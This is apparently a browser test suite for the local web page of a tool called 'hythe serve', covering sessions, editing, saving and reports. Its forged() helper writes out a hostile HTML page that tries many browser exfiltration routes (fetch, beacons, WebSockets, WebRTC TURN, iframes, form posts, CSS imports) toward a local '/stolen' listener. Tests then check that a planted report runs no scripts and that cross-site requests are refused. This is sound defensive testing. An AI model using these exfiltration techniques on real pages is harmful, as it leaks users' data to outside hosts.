/** The page of `hythe serve` in a real browser, and reports that somebody forged. */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { basename, join } from 'node:path';
import process from 'node:process';
import type { Page } from 'playwright-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { sha256 } from '../../src/run/node/sha256.ts';
import { axeFindings, withoutBrowser } from '../browser.ts';
import { duelSpec, hytheInTurn, testFolder } from '../cli/hythe.ts';
import { filesIn } from '../cli/killed.ts';
import { pointAt } from '../point-at.ts';
import { fragmentFor } from '../web/fragment.ts';
import { openWeb } from '../web/opened.ts';
import { changed, firstAt } from '../web/specs.ts';
import { openServer, served, type Served } from './served.ts';

/** Ways to leave a page, after which nothing more of it is sent. */
const LEAVING = `() => { top.location.href = 'SITE'; },
  () => document.getElementById('form').submit(),
  () => document.getElementById('link').click(),
  () => { location.href = 'SITE'; },`;

/** Tries to reach the ports of this machine in all ways of a page, by scripts and without. */
function forged({ udp, tcp }: Ports, leaves = true): string {
  const site = `http://127.0.0.1:${tcp}/stolen`;
  return `<!doctype html><html><head><meta charset="utf-8">
<link rel="preconnect" href="${site}"><link rel="stylesheet" href="${site}"><link rel="prefetch" href="${site}"><link rel="modulepreload" href="${site}">
</head><body onload="fetch('${site}')"><p id="words">Forged words</p>
<img src="${site}"><img src="data:," onerror="fetch('${site}')"><iframe src="${site}"></iframe><object data="${site}"></object>
<video src="${site}"></video><svg><image href="${site}"/></svg><style>@import '${site}'; p { background: url('${site}') }</style>
<form id="form" method="post" action="${site}"><input name="a" value="b"></form><script src="${site}"></script>
<a id="link" href="${site}">a link</a>
<script>
document.getElementById('words').textContent = 'Forged words ran';
const tries = [
  () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${udp}', username: 'stolen', credential: 'x' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  () => fetch('${site}'),
  () => navigator.sendBeacon('${site}'),
  () => new WebSocket('${site}'.replace('http', 'ws')),
  () => new EventSource('${site}'),
  () => { new Image().src = '${site}'; },
  () => import('${site}'),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${site}')"]))),
  () => { const frame = document.createElement('iframe'); frame.srcdoc = "<script>fetch('${site}')</" + 'script>'; document.body.append(frame); },
  () => open('${site}'),
  () => { parent.document.title = 'stolen'; },
  ${leaves ? LEAVING.replaceAll('SITE', site) : ''}
];
for (const attempt of tries) try { attempt(); } catch { }
</script></body></html>`;
}

interface Ports {
  readonly udp: number;
  readonly tcp: number;
}

/** Two ports of this machine that count what comes. */
interface Listening extends Ports {
  readonly packets: () => number;
  readonly connections: () => number;
}

async function listening(): Promise<Listening> {
  let [packets, connections] = [0, 0];
  const udp = createSocket('udp4', () => packets++).bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const tcp = createServer((_request, response) => response.end()).on('connection', () => connections++);
  await once(tcp.listen(0, '127.0.0.1'), 'listening');
  onTestFinished(() => {
    udp.close();
    tcp.closeAllConnections();
    tcp.close();
  });
  const { port } = tcp.address() as AddressInfo; // it listens
  return {
    udp: udp.address().port,
    tcp: port,
    packets: () => packets,
    connections: () => connections,
  };
}

/** One distance and two turns of the spec with which the page begins, which would take most of the time. */
const BRIEF = `/${fragmentFor('bench', { spec: changed(firstAt('8'), ['turnLimit: 30', 'turnLimit: 2']) })}`;

describe.skipIf(withoutBrowser)('in a browser', () => {
  // The addresses are those of servers.
  const web = openWeb(async () => Promise.resolve({ url: '', close: () => {} }));
  /** For tests that keep no run. */
  const shared = openServer();
  /** The servers at which the page has a session: without their token it need not begin with its first fight. */
  const sessions = new Set<string>();

  /** The console speaks of these faults, and of no others. */
  function expectFaults(these: RegExp): void {
    expect(web.faults.splice(0).filter((text) => !these.test(text))).toEqual([]);
  }

  /** The page with that spec. */
  async function brief({ url, origin }: Served): Promise<Page> {
    const page = await web.shared(sessions.has(origin) ? origin + BRIEF : url);
    sessions.add(origin);
    // A page whose server has ended would complain.
    onTestFinished(async () => {
      await page.goto('about:blank');
    });
    await page.goto(origin + BRIEF);
    // The spec before may be answered already.
    const distances = page.getByRole('textbox', { name: 'distance: try each of' });
    await expect.poll(async () => distances.inputValue()).toBe('8');
    return page;
  }

  const says = async (page: Page, text: string) => {
    await expect.poll(async () => page.locator('body').textContent()).toContain(text);
  };

  test('the page answers by the server, also after a reload and in a second tab; the token leaves the address', async () => {
    const page = await web.fresh(shared.server.url);
    await says(page, '51.04%');
    expect(page.url()).not.toContain('token');
    await page.context().grantPermissions(['clipboard-write']);
    await page.getByRole('button', { name: 'Copy link' }).click();
    await says(page, 'it opens on this machine while the server runs');
    await page.goto(shared.server.origin + BRIEF);
    // The core runs at the server, not in the page.
    expect(page.workers()).toEqual([]);
    await page.reload();
    await says(page, '14.49%');
    const second = await page.context().newPage();
    await second.goto(page.url());
    await says(second, '14.49%');
  });

  test('goes on with what was made after its server is started again, and opened in another tab or the same', async () => {
    const folder = testFolder({ 'duel.yaml': duelSpec() });
    // None that the machine gives away meanwhile.
    const port = String(10_000 + (process.pid % 10_000));
    const first = await served(['--port', port], folder);
    const page = await web.fresh(first.url);
    await page.goto(first.origin + BRIEF);
    const distances = page.getByRole('textbox', { name: 'distance: try each of' });
    await expect.poll(async () => distances.inputValue()).toBe('8');
    let last = first;
    for (const [cm, share, tab] of [
      ['2', '21.90%', await page.context().newPage()],
      ['12', '8.68%', page],
    ] as const) {
      await last.kill();
      last = await served(['--port', port], folder);
      expect(last.origin).toBe(first.origin);
      await distances.fill(cm);
      await distances.press('Enter');
      await tab.goto(last.url);
      await says(page, share);
      expect(await distances.inputValue()).toBe(cm);
      expect(page.url()).not.toContain('token');
    }
    expectFaults(/status of 401|ERR_CONNECTION|ERR_INCOMPLETE|ERR_EMPTY/u);
  });

  test('without the token the page says which address to open', async () => {
    const page = await web.fresh(shared.server.origin);
    await says(page, 'open the address that hythe serve prints');
    expect(await page.locator('main').textContent()).toMatch(/^this page has no session[^.]*$/u);
    expectFaults(/status of 401/u);
  });

  test('each throw of a fight opens to the functions of its rules', async () => {
    const page = await brief(shared.server);
    await page.getByRole('button', { name: 'Watch a typical fight' }).click();
    const fight = page.getByRole('region', { name: 'One fight' });
    await fight.getByText('Every throw').click();
    const shot = fight.locator('.step').filter({ hasText: 'PDB-FIRE-06' }).first();
    await shot.locator('summary').click();
    await shot
      .locator('figcaption', { hasText: /^fire\.ts, line \d+$/u })
      .first()
      .waitFor();
    expect(await shot.locator('pre').allTextContents()).toContainEqual(
      expect.stringContaining('chance.die(D20)'),
    );
    expect(await axeFindings(page)).toEqual([]);
  });

  test('another site cannot read, ask, or frame the page, though its user has a session', async () => {
    const page = await brief(shared.server);
    await says(page, '14.49%');
    const base = await page.evaluate(() => localStorage.getItem('hythe-base'));
    let cookies: string | undefined = 'nothing came';
    const other = createServer((request, response) => {
      cookies = request.headers.cookie;
      response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Other</title>');
    }).listen(0, '127.0.0.1');
    onTestFinished(() => void other.close());
    await once(other, 'listening');
    const address = other.address();
    const port = typeof address === 'object' ? address?.port : 0;
    // Of the same host, so the same site to a browser.
    await page.goto(`http://127.0.0.1:${port}/`);
    expect(cookies).toBeUndefined();
    const outcome = await page.evaluate(
      async ([origin, path]) => {
        const attempt = async (address: string, how: RequestInit = {}) =>
          fetch(origin + address, { credentials: 'include', ...how }).then(
            async (answer) => `${answer.type} ${await answer.text()}`,
            () => 'refused',
          );
        const frame = document.createElement('iframe');
        frame.src = `${origin}/`;
        const loaded = new Promise((resolve) => {
          frame.addEventListener('load', resolve);
        });
        document.body.append(frame);
        await loaded;
        return [
          await attempt('/'),
          await attempt(`${path}events`),
          await attempt('/session', { method: 'POST', body: '{}' }),
          await attempt('/session', {
            method: 'POST',
            body: '{}',
            headers: { 'content-type': 'application/json' },
          }),
          await attempt('/', { mode: 'no-cors' }),
          frame.contentDocument === null ? 'no access' : 'access',
        ];
      },
      [shared.server.origin, base ?? ''] as const,
    );
    expect(outcome).toEqual(['refused', 'refused', 'refused', 'refused', 'refused', 'no access']);
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/u);
    expectFaults(/CORS policy|Content Security Policy|net::ERR_/u);
  });

  test('the editor opens, completes, names a mistake, and opens again, without a word of the policy', async () => {
    const page = await brief(shared.server);
    await says(page, '14.49%');
    const summary = page.locator('details.spec > summary');
    const editor = page.getByRole('textbox', { name: 'The spec' });
    await summary.click();
    await editor.click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('note');
    // With half a key the text is no YAML: the words still come by the rules that it named before.
    await page.locator('.spec .problems li').first().waitFor();
    await page.keyboard.press('Escape');
    const completed = page.getByRole('option', { name: 'notes' });
    // Each press begins the search for words anew: it is given the time to end.
    const again = { interval: 1000 };
    await expect
      .poll(async () => {
        if ((await completed.count()) === 0) await page.keyboard.press('Control+Space');
        return completed.count();
      }, again)
      .toBe(1);
    await page.keyboard.press('Escape');
    // A mark that is drawn anew under the pointer shows nothing until that moves.
    await expect
      .poll(async () => {
        const shown = await page.locator('.cm-tooltip-lint').count();
        if (shown > 0) return shown;
        await page.mouse.move(0, 0);
        await page.locator('.cm-lint-marker').first().hover();
        return 0;
      }, again)
      .toBe(1);
    await summary.click();
    await expect.poll(async () => editor.count()).toBe(0);
    await summary.click();
    await editor.waitFor();
    expect(await editor.textContent()).toContain('note');
  });

  test('an answer is reported; a spec of the folder is opened, changed and saved; one that was changed beside the page is not lost', async () => {
    const { folder } = shared;
    const path = join(folder, 'duel.yaml');
    const page = await brief(shared.server);
    await says(page, '14.49%');
    await page.getByRole('button', { name: 'Report', exact: true }).click();
    await page.frameLocator('iframe.report').getByRole('heading', { level: 1 }).waitFor();
    await page.getByRole('button', { name: 'Close', exact: true }).click();
    await page.getByRole('button', { name: 'Open another fight' }).click();
    const first = page.locator('.gallery section').first();
    await first.getByRole('heading', { name: 'In this folder' }).waitFor();
    await first.getByRole('button', { name: 'duel.yaml' }).click();
    await says(page, '56.9%');
    const name = page.getByLabel('Name of the file');
    expect(await name.inputValue()).toBe('duel.yaml');
    await page.locator('details.spec > summary').click();
    await page.getByRole('textbox', { name: 'The spec' }).click();
    await page.keyboard.press('ControlOrMeta+End');
    // At once: each letter is a change that is answered.
    await page.keyboard.insertText('\n# changed');
    const save = page.getByRole('button', { name: 'Save in the folder as' });
    await save.click();
    await says(page, 'Saved as duel.yaml.');
    expect(readFileSync(path, 'utf8')).toContain('# changed');
    writeFileSync(path, duelSpec({ title: 'By an editor' }));
    await save.click();
    await says(page, 'duel.yaml is there already');
    expect(readFileSync(path, 'utf8')).toContain('By an editor');
    // The editor's own scroller takes no focus, its text does: Axe does not see that.
    await page.locator('details.spec > summary').click();
    await page.locator('.cm-scroller').waitFor({ state: 'detached' });
    expect(await axeFindings(page)).toEqual([]);
    await page.getByRole('button', { name: 'Replace it' }).click();
    await says(page, 'Saved as duel.yaml.');
    expect(readFileSync(path, 'utf8')).toContain('# changed');
    await name.fill('another.yaml');
    await save.click();
    await expect.poll(() => filesIn(folder)).toContain('another.yaml');
  });

  test('a kept run opens with a report whose buttons work; with --read-only a page offers no place to save a spec', async () => {
    const own = testFolder({ 'duel.yaml': duelSpec() });
    hytheInTurn(['run', 'duel.yaml', '--quiet'], { cwd: own });
    const report = filesIn(join(own, 'results')).find((file) => file.endsWith('report.html')) ?? '';
    const kept = await served(['--port', '0', '--read-only'], own);
    const page = await brief(kept);
    await says(page, '14.49%');
    expect(await page.getByRole('button', { name: 'Save in the folder as' }).count()).toBe(0);
    await page.goto(`${kept.origin}/#runs`);
    await says(page, `1 run in ${basename(own)}`);
    await page.getByRole('button', { name: 'A duel' }).click();
    const inside = page.frameLocator('iframe.report');
    await pointAt(inside.locator('.wide [data-tip]').first(), inside.locator('.tip'));
    const [saved] = await Promise.all([
      page.waitForEvent('download'),
      inside.locator('[data-save="csv"]').first().click(),
    ]);
    expect(readFileSync(await saved.path(), 'utf8')).toContain('method');
    // The manifest still names the report.
    rmSync(join(own, 'results', report));
    await page.reload();
    await says(page, 'The report cannot be shown: "report.html" is not there');
    await says(page, 'is narrowly ahead of the');
    expect(await page.locator('main').textContent()).not.toContain('The report is being read');
  });

  test('a forged report runs none of its scripts and reaches nothing', async () => {
    const own = testFolder({ 'duel.yaml': duelSpec() });
    hytheInTurn(['run', 'duel.yaml', '--quiet'], { cwd: own });
    const path = filesIn(join(own, 'results')).find((file) => file.endsWith('report.html')) ?? '';
    const run = join(own, 'results', path, '..');
    const spied = await listening();
    const manifest = join(run, 'manifest.json');
    const named = JSON.parse(readFileSync(manifest, 'utf8')) as { files: Record<string, string> }; // Hythe wrote it
    /** Puts a report in place of that of the run; the manifest names it. */
    const forge = (page: string): void => {
      writeFileSync(join(run, 'report.html'), page);
      named.files['report.html'] = sha256(page);
      writeFileSync(manifest, JSON.stringify(named));
    };
    forge(forged(spied));
    const kept = await served(['--port', '0'], own);
    const bench = await brief(kept);
    await says(bench, '14.49%');
    await bench.goto(`${kept.origin}/#runs`);
    await bench.getByRole('button', { name: 'A duel' }).click();
    const words = bench.frameLocator('iframe.report').locator('#words');
    await words.waitFor();
    await says(bench, 'scripts that are not those of this version of Hythe: they do not run');
    expect(await words.textContent()).toBe('Forged words');
    // Where the reader follows a link of it.
    await bench.frameLocator('iframe.report').locator('#link').click();

    // Without scripts it leads nowhere either.
    forge(`<!doctype html><meta http-equiv="refresh" content="0;url=http://127.0.0.1:${spied.tcp}/">Forged`);
    await bench.reload();
    await expect
      .poll(() => bench.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/');

    // The same page at a site of its own, which stays there, reaches both: what was sent before has arrived by then.
    const control = await listening();
    const site = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html').end(forged(control, false));
    });
    await once(site.listen(0, '127.0.0.1'), 'listening');
    onTestFinished(() => {
      site.closeAllConnections();
      site.close();
    });
    const { port } = site.address() as AddressInfo; // it listens
    const free = await bench.context().newPage();
    await free.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'commit' });
    await expect.poll(() => control.packets()).toBeGreaterThan(0);
    await expect.poll(() => control.connections()).toBeGreaterThan(0);
    expect({ packets: spied.packets(), connections: spied.connections() }).toEqual({
      packets: 0,
      connections: 0,
    });
    await free.close();
    web.faults.splice(0);
  });
});
